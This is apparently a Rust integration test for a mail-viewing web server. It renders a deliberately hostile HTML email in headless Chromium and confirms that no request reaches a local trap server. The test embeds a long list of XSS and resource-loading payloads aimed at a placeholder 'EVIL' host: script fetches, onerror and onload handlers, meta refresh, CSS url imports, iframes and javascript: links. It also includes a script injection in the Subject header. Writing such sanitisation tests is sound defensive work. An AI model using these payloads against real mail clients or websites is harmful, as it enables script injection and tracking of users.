//! A browser looks at a message that is made to harm: nothing happens, nothing is asked of others.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::mpsc::{self, Receiver};
use std::thread;
use std::time::Duration;

use common::Lang;
use mail_sink::page::{self, PageConfig};

/// Everything that HTML can ask of a browser; `EVIL` is where it would be asked.
const ATTACKS: &str = r#"
</iframe></pre></section><script>parent.document.title='owned'; fetch('EVIL/script')</script>
<script src="EVIL/src"></script><img src=x onerror="location='EVIL/onerror'">
<svg onload="fetch('EVIL/svg')"><image href="EVIL/svgimage"/><script>fetch('EVIL/svgscript')</script></svg>
<img src="EVIL/picture" srcset="EVIL/srcset 2x" attributionsrc="EVIL/attribution">
<link rel=stylesheet href="EVIL/css"><link rel=preconnect href="EVIL"><link rel=prefetch href="EVIL/prefetch">
<link rel=preload as=image href="EVIL/preload"><link rel=dns-prefetch href="EVIL"><link rel=icon href="EVIL/icon">
<LiNk/rel=preconnect/href=EVIL><link rel=manifest href="EVIL/manifest"><link rel=modulepreload href="EVIL/module">
<style>@import url(EVIL/import); @font-face{font-family:f;src:url(EVIL/font)} body{font-family:f;background:url(EVIL/background)}
p{list-style:url(EVIL/list);cursor:url(EVIL/cursor),auto}</style><p>text</p>
<meta http-equiv=refresh content="0;url=EVIL/refresh"><META http-equiv="refresh" content="0;URL='EVIL/refresh2'">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv=x-dns-prefetch-control content=on>
<base href="EVIL/base/" target=_top><img src="relative.png">
<form action="EVIL/form"><input name=a autofocus onfocus="this.form.submit()"><button>send</button></form>
<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<script>fetch('EVIL/srcdoc')</script><img src='EVIL/srcdocimage'>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><frame src="EVIL/frame"><portal src="EVIL/portal"></portal>
<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio>
<input type=image src="EVIL/inputimage"><table background="EVIL/table"><tr><td background="EVIL/td"></table>
<a href="EVIL/link" target=_top ping="EVIL/ping" id=a>link</a><a href="javascript:fetch('EVIL/javascript')" autofocus>x</a>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/speculation"]}]}</script>
<math><mtext><script>fetch('EVIL/math')</script></mtext></math><body onload="top.location='EVIL/top'" background="EVIL/body">
<noscript><img src="EVIL/noscript"></noscript><template><img src="EVIL/template"></template>
<div><template shadowrootmode=open><img src="EVIL/shadow"></template></div>
<img src="cid:good" alt=good><h1 style="color:red">HARMLESS</h1>
"#;

const PIXEL: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/// Notes what is asked of it, which nobody may.
struct Trap {
    addr: SocketAddr,
    asked: Receiver<String>,
}

/// What this test itself asks, so that it knows that all before it has been noted.
const SENTINEL: &str = "sentinel";

impl Trap {
    fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let (notes, asked) = mpsc::channel();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                // A connection that says nothing is one too: it was made ahead.
                stream.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
                let mut said = [0; 200];
                let length = stream.read(&mut said).unwrap_or(0);
                let said = String::from_utf8_lossy(&said[..length]).into_owned();
                notes.send(said.lines().next().unwrap_or("(nothing)").to_owned()).unwrap();
            }
        });
        Self { addr, asked }
    }

    /// What was asked since the last call.
    fn caught(&self) -> Vec<String> {
        let mut stream = TcpStream::connect(self.addr).unwrap();
        stream.write_all(SENTINEL.as_bytes()).unwrap();
        let next = || self.asked.recv_timeout(testkit::LIMIT).unwrap();
        std::iter::repeat_with(next).take_while(|said| said != SENTINEL).collect()
    }
}

fn message(html: &str) -> String {
    format!(
        "From: evil@a.example\r\nTo: you@b.example\r\nSubject: </title><script>document.title='owned'</script>\r\n\
         Content-Type: multipart/related; boundary=bound\r\n\r\n--bound\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--bound\r\nContent-Type: image/png\r\n\
         Content-ID: <good>\r\nContent-Transfer-Encoding: base64\r\n\r\n{PIXEL}\r\n--bound--\r\n"
    )
}

/// The page as the browser has it after everything has loaded, scripts included.
fn looked_at(chromium: &Path, profile: &Path, url: &str) -> String {
    let output = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
        ])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .args(["--disable-features=OptimizationHints,MediaRouter", "--no-proxy-server"])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(["--virtual-time-budget=3000", "--dump-dom", url])
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn a_hostile_message_changes_nothing_and_asks_nobody() {
    let Some(chromium) = testkit::tool("chromium") else { return };
    let trap = Trap::set();
    let dir = tempfile::tempdir().unwrap();
    let html = ATTACKS.replace("EVIL", &format!("http://{}", trap.addr));
    fs::write(dir.path().join("000001.eml"), message(&html)).unwrap();
    // The trap does catch: without its page around it, the same HTML asks a lot of others.
    // (With a profile of its own: a browser remembers whom it asked.)
    let bare = dir.path().join("bare.html");
    fs::write(&bare, &html).unwrap();
    looked_at(&chromium, &dir.path().join("first"), &format!("file://{}", bare.display()));
    let caught = trap.caught();
    assert!(caught.len() > 3, "a trap that everybody should fall into: {caught:?}");

    let config = PageConfig {
        bind: "127.0.0.1:0".parse().unwrap(),
        dir: dir.path().to_owned(),
        lang: Lang::En,
        names: Vec::new(),
    };
    let server = page::start(config).unwrap();
    let profile = dir.path().join("profile");
    let at = |path: &str| format!("http://{}{path}", server.addr());
    let list = looked_at(&chromium, &profile, &at("/"));
    assert!(list.contains("<title>Mail</title>") && list.contains("1 message"), "{list}");
    assert_eq!(trap.caught(), [""; 0]);
    let shown = looked_at(&chromium, &profile, &at("/message/1"));
    assert!(shown.contains("<title>&lt;/title&gt;&lt;script&gt;"), "{shown}");
    assert_eq!(shown.matches("<iframe").count(), 1, "{shown}");
    assert_eq!(trap.caught(), [""; 0]);
    let alone = looked_at(&chromium, &profile, &at("/message/1/html"));
    assert!(alone.contains("HARMLESS") && alone.contains("data:image/png;base64,"), "{alone}");
    assert_eq!(trap.caught(), [""; 0]);
}
